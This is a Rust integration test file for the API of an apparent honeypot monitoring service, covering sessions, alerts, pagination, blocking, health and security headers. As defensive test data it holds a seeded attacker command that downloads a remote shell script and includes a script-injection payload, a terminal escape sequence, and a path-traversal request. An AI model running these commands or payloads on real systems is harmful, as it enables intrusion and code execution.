//! Every path, and how lists are asked.

use phantom_store::Role;
use serde_json::json;

use crate::schema::hold;
use crate::seed::ATTACKERS;
use crate::world::World;

#[test]
fn every_readable_path_answers_as_documented() {
    let world = World::new();
    let document = phantom_api::openapi();
    let admin = world.token(Role::Admin);
    let session =
        world.get(&admin, "/api/v1/sessions?limit=1").json()["items"][0]["id"].as_str().unwrap().to_owned();
    let alert =
        world.get(&admin, "/api/v1/alerts?limit=1").json()["items"][0]["id"].as_str().unwrap().to_owned();
    let mut seen = 0;
    for (path, item) in document["paths"].as_object().unwrap() {
        if item["get"].is_null() || ["/metrics", "/api/v1/stream", RECORDING].contains(&path.as_str()) {
            continue;
        }
        let id = if path.contains("alerts") { &alert } else { &session };
        let asked = path.replace("{id}", id).replace("{ip}", ATTACKERS[0]);
        let answer = world.get(&admin, &asked);
        assert_eq!(answer.status, 200, "{asked}: {}", answer.text);
        assert_eq!(answer.header("cache-control"), "no-store", "{asked}");
        hold(&document, "get", path, 200, &answer.json());
        seen += 1;
    }
    assert!(seen >= 20, "{seen}");
}

const RECORDING: &str = "/api/v1/sessions/{id}/recording";

#[test]
fn a_recording_is_an_asciicast_that_attacks_no_terminal() {
    let world = World::new();
    let token = world.token(Role::Viewer);
    let session = phantom_core::SessionId::new(phantom_core::from_micros(1_763_900_000_000_000), [1; 10]);
    let path = RECORDING.replace("{id}", &session.to_string());
    let answer = world.get(&token, &path);
    assert_eq!((answer.status, answer.header("content-type")), (200, "application/x-asciicast"));
    let lines: Vec<serde_json::Value> =
        answer.text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(
        (&lines[0]["version"], &lines[0]["width"], &lines[0]["height"]),
        (&json!(2), &json!(100), &json!(30))
    );
    assert_eq!(lines[0]["timestamp"], 1_763_900_000);
    assert!(lines.contains(&json!([0.5, "o", "root@web:~# "])), "{}", answer.text);
    assert!(lines.contains(&json!([1.5, "i", "uname\r"])), "{}", answer.text);
    assert!(answer.text.contains("[1;32mLinux"), "colours stay: {}", answer.text);
    let raw = world.get(&token, &format!("{path}?raw=true"));
    assert!(raw.text.contains("]0;stolen"), "{}", raw.text);
    assert_eq!(world.get(&token, &format!("{path}?channel=7")).text.lines().count(), 1);
    world.get(&token, &path.replace('0', "x")).problem(400, "invalid-request");
    assert_eq!(world.send("GET", &path, &[], None).status, 401);
}

#[test]
fn lists_hold_what_was_seeded() {
    let world = World::new();
    let token = world.token(Role::Viewer);
    let count = |path: &str| world.get(&token, path).json()["items"].as_array().unwrap().len();
    assert_eq!(count("/api/v1/sessions"), 18);
    assert_eq!(count("/api/v1/sessions?service=ssh&accepted=true"), 9);
    assert_eq!(count(&format!("/api/v1/sessions?src={}", ATTACKERS[2])), 6);
    assert_eq!(count("/api/v1/alerts?severity=high&rule=ssh_bruteforce"), 9);
    assert_eq!(count("/api/v1/alerts?severity=low"), 0);
    assert_eq!(count("/api/v1/events?kinds=login&limit=1000"), 18);
    assert_eq!(count("/api/v1/events?kinds=login,alert&limit=1000"), 27);
    assert_eq!(count("/api/v1/packets?protocol=udp"), 10);
    assert_eq!(count("/api/v1/actions"), 3);
    assert_eq!(count("/api/v1/sources"), 3);
    assert_eq!(count("/api/v1/sources?level=low"), 0);

    let summary = world.get(&token, "/api/v1/summary").json();
    assert_eq!(
        (&summary["sessions"], &summary["alerts"], &summary["sources"]),
        (&json!(18), &json!(9), &json!(3))
    );
    let slices = world.get(&token, "/api/v1/analytics/timeline?since=6h&bucket=30m").json();
    let alerts: u64 = slices.as_array().unwrap().iter().map(|slice| slice["alerts"].as_u64().unwrap()).sum();
    assert_eq!(alerts, 9);
    let guesses = world.get(&token, "/api/v1/analytics/credentials").json();
    assert_eq!(guesses["usernames"][0], json!({"value": "root", "count": 18, "accepted": 9}));

    let detail = world.get(&token, &format!("/api/v1/sources/{}", ATTACKERS[0])).json();
    assert_eq!(detail["techniques"], json!(["T1110"]));
    let values: Vec<f64> =
        detail["scores"].as_array().unwrap().iter().map(|s| s["value"].as_f64().unwrap()).collect();
    assert_eq!(values, [25.0, 37.0, 49.0, 61.0, 73.0, 85.0]);
    assert_eq!(detail["sessions"].as_array().unwrap().len(), 6);
}

#[test]
fn attackers_bytes_survive_the_way() {
    let world = World::new();
    let token = world.token(Role::Viewer);
    let page = world.get(&token, "/api/v1/events?kinds=command&limit=1").json();
    let line = page["items"][0]["command"]["line"].as_str().unwrap();
    assert_eq!(
        phantom_core::Untrusted::from_lossless(line).as_bytes(),
        b"wget http://203.0.113.66/\xff.sh; <script>alert(1)</script>"
    );
}

#[test]
fn pages_join_without_gap_or_repetition() {
    let world = World::new();
    let token = world.token(Role::Viewer);
    for path in ["events", "sessions", "alerts", "sources", "packets", "actions"] {
        let whole = world.get(&token, &format!("/api/v1/{path}?limit=1000")).json();
        assert!(whole["next"].is_null());
        let (mut joined, mut cursor) = (Vec::new(), String::new());
        loop {
            let page = world.get(&token, &format!("/api/v1/{path}?limit=2{cursor}")).json();
            let items = page["items"].as_array().unwrap();
            assert!(items.len() <= 2);
            joined.extend(items.clone());
            let Some(next) = page["next"].as_str() else { break };
            cursor = format!("&cursor={next}");
        }
        assert_eq!(&joined, whole["items"].as_array().unwrap(), "{path}");
    }
}

#[test]
fn wrong_parameters_are_named() {
    let world = World::new();
    let token = world.token(Role::Viewer);
    let because = |path: &str| world.get(&token, path).problem(400, "invalid-request");
    assert!(because("/api/v1/events?kindz=login").contains("kindz"));
    assert!(because("/api/v1/events?limit=1001").contains("1 to 1000"));
    assert!(because("/api/v1/events?limit=0").contains("1 to 1000"));
    assert!(because("/api/v1/events?since=yesterday").contains("RFC 3339"));
    assert!(because("/api/v1/events?since=1h&until=2h").contains("since is after until"));
    assert!(because("/api/v1/alerts?severity=terrible").contains("terrible"));
    because("/api/v1/packets?port=70000");
    assert!(because("/api/v1/events?cursor=nonsense").contains("cursor"));
    assert!(because("/api/v1/stream?kinds=packet,nonsense").contains("nonsense"));
    assert!(because("/api/v1/analytics/timeline?bucket=1s").contains("bucket"));
    assert!(because("/api/v1/summary?since=1h&until=2h").contains("since"));
    assert!(because("/api/v1/sources/nobody").contains("IP"));
    because("/api/v1/sessions/12");
}

#[test]
fn what_is_not_there_is_a_problem() {
    let world = World::new();
    let token = world.token(Role::Admin);
    let nil = "00000000-0000-7000-8000-000000000000";
    world.get(&token, &format!("/api/v1/sessions/{nil}")).problem(404, "not-found");
    world.get(&token, &format!("/api/v1/alerts/{nil}")).problem(404, "not-found");
    world.get(&token, "/api/v1/sources/192.0.2.250").problem(404, "not-found");
    world.get(&token, "/api/v1/nothing").problem(404, "not-found");
    world.get(&token, "/api").problem(404, "not-found");
    let wrong = world.change(&token, "DELETE", "/api/v1/events", None);
    wrong.problem(405, "method-not-allowed");
    assert!(wrong.header("allow").contains("GET"), "{:?}", wrong.headers);
    world.change(&token, "POST", "/", Some(json!({}))).problem(405, "method-not-allowed");
}

#[test]
fn bodies_are_held_to_their_form() {
    let world = World::new();
    let token = world.token(Role::Admin);
    let block = |body| world.change(&token, "POST", "/api/v1/blocks", Some(body));
    assert!(block(json!({"ip": "192.0.2.1"})).problem(422, "invalid-body").contains("why"));
    assert!(block(json!({"ip": "192.0.2.1", "why": "x", "y": 1})).problem(422, "invalid-body").contains('y'));
    block(json!({"ip": "192.0.2.1", "why": " "})).problem(400, "invalid-request");
    block(json!({"ip": "192.0.2.1", "why": "x", "for": "soon"})).problem(400, "invalid-request");
    block(json!({"ip": "192.0.2.1", "why": "x".repeat(70_000)})).problem(413, "too-large");
    let auth = format!("Bearer {token}");
    world
        .send("POST", "/api/v1/blocks", &[("authorization", &auth)], None)
        .problem(415, "unsupported-media-type");
}

#[test]
fn blocks_go_to_the_node() {
    let world = World::new();
    let document = phantom_api::openapi();
    let token = world.token(Role::Analyst);
    let body = json!({"ip": "::ffff:192.0.2.77", "why": "by hand", "for": "1h30m"});
    let made = world.change(&token, "POST", "/api/v1/blocks", Some(body));
    assert_eq!(made.status, 201, "{}", made.text);
    hold(&document, "post", "/api/v1/blocks", 201, &made.json());
    assert_eq!(made.json()["ttl"], 5400);
    let order =
        world.node.blocked.lock().unwrap()[&"192.0.2.77".parse::<std::net::IpAddr>().unwrap()].clone();
    assert_eq!((order.by.as_str(), order.why.as_str()), ("token:t-analyst", "by hand"));
    let body = json!({"ip": "127.0.0.1", "why": "x"});
    world.change(&token, "POST", "/api/v1/blocks", Some(body)).problem(409, "refused");
    let lifted = world.change(&token, "DELETE", "/api/v1/blocks/192.0.2.77", None);
    hold(&document, "delete", "/api/v1/blocks/{ip}", 200, &lifted.json());
    world.change(&token, "DELETE", "/api/v1/blocks/192.0.2.77", None).problem(404, "not-found");
}

#[test]
fn alerts_are_triaged() {
    let world = World::new();
    let token = world.token(Role::Analyst);
    let id =
        world.get(&token, "/api/v1/alerts?limit=1").json()["items"][0]["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/alerts/{id}");
    let row =
        world.change(&token, "PATCH", &path, Some(json!({"status": "resolved", "note": "ours"}))).json();
    assert_eq!(
        (&row["status"], &row["note"], &row["triaged_by"]),
        (&json!("resolved"), &json!("ours"), &json!("token:t-analyst"))
    );
    assert_eq!(
        world.get(&token, "/api/v1/alerts?status=resolved").json()["items"].as_array().unwrap().len(),
        1
    );
}

#[test]
fn health_is_open_and_keeps_details_to_itself() {
    let world = World::new();
    let answer = world.send("GET", "/api/health", &[], None);
    assert_eq!(answer.status, 200);
    hold(&phantom_api::openapi(), "get", "/api/health", 200, &answer.json());
    assert_eq!(answer.json()["components"][0], json!({"name": "store", "ok": true}));
    let told = world.get(&world.token(Role::Viewer), "/api/health").json();
    assert_eq!(told["components"][1]["detail"], "on eth0");
    world.node.well.store(false, std::sync::atomic::Ordering::Relaxed);
    assert_eq!(world.send("GET", "/api/health", &[], None).status, 503);
    assert_eq!(world.send("GET", "/api/health?probe=live", &[], None).status, 200);
}

#[test]
fn metrics_are_prometheus_text() {
    let world = World::new();
    let answer = world.get(&world.token(Role::Viewer), "/metrics");
    assert!(answer.header("content-type").starts_with("text/plain; version=0.0.4"));
    assert!(
        answer.text.contains(
            "# TYPE phantomnet_events_total counter\nphantomnet_events_total{service=\"ssh\"} 42\n"
        )
    );
    assert!(answer.text.contains("phantomnet_api_requests_total 1\n"), "{}", answer.text);
}

#[test]
fn the_documents_page_fetches_nothing_from_elsewhere() {
    let world = World::new();
    assert_eq!(world.send("GET", "/api/openapi.json", &[], None).json(), phantom_api::openapi());
    for (path, kind) in [("docs", "text/html"), ("docs.js", "text/javascript"), ("docs.css", "text/css")] {
        let answer = world.send("GET", &format!("/api/{path}"), &[], None);
        assert!(answer.status == 200 && answer.header("content-type").starts_with(kind), "{path}");
        assert!(!answer.text.contains("http:") && !answer.text.contains("https:"), "{path}");
        assert!(!answer.text.contains(" style=") && !answer.text.contains("innerHTML"), "{path}");
    }
}

#[test]
fn the_dashboard_or_a_line_about_it_is_served() {
    let world = World::new();
    let page = world.send("GET", "/", &[], None);
    let csp = page.header("content-security-policy").to_owned();
    assert!(
        csp.contains("default-src 'self'")
            && csp.contains("frame-ancestors 'none'")
            && !csp.contains("unsafe")
    );
    assert_eq!(page.header("x-content-type-options"), "nosniff");
    assert_eq!(page.header("referrer-policy"), "no-referrer");
    world.send("GET", "/assets/none.js", &[], None).problem(404, "not-found");
    if page.status == 503 {
        assert!(page.text.contains("npm run build"));
        return;
    }
    assert!(page.header("content-type").starts_with("text/html"));
    assert_eq!(
        world.send("GET", "/alerts/x", &[], None).text,
        page.text,
        "own paths of the page show the page"
    );
    let again = world.send("GET", "/", &[("if-none-match", page.header("etag"))], None);
    assert_eq!((again.status, again.text.as_str()), (304, ""));
    let outside = world.send("GET", "/..%2f..%2fCargo.toml", &[], None);
    assert!(!outside.text.contains("[package]") && !outside.text.contains("[workspace]"));
}
